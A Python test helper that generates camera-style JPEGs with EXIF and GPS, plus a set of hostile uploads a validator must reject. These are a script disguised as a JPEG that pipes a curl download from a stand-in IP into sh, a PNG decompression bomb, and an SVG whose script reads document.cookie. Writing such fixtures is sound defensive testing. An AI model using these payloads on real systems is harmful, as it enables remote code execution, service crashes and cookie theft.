"""Test helper: photos as cameras write them, and the hostile files an upload must refuse."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

ORIENTATION, MAKE, GPS = 0x0112, 0x010F, 0x8825


def jpeg(width: int = 800, height: int = 600, colour=(200, 40, 40), gps: tuple[float, float] | None = None) -> bytes:
    """A JPEG with the EXIF a phone writes: orientation 6 (held upright), its make, and GPS when given."""
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    exif[MAKE] = "PhoneMaker"
    if gps is not None:
        lon, lat = gps
        exif[GPS] = {1: "N", 2: _dms(lat), 3: "E", 4: _dms(lon)}
    out = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(out, "JPEG", exif=exif.tobytes(), quality=90)
    return out.getvalue()


def _dms(value: float) -> tuple[float, float, float]:
    d = int(value)
    m = int((value - d) * 60)
    return (float(d), float(m), round((value - d - m / 60) * 3600, 4))


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(side: int = 50_000) -> bytes:
    """A PNG of a few hundred bytes whose header claims side×side pixels (2.5 gigapixels)."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    body = zlib.compress(b"\x00" * (side // 8 + 1) * 64, 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


HOSTILE = {
    "script.jpg": b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n",
    "bomb.png": png_bomb(),
    "empty.jpg": b"",
    "truncated.jpg": jpeg()[:1500],
    "drawing.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
}
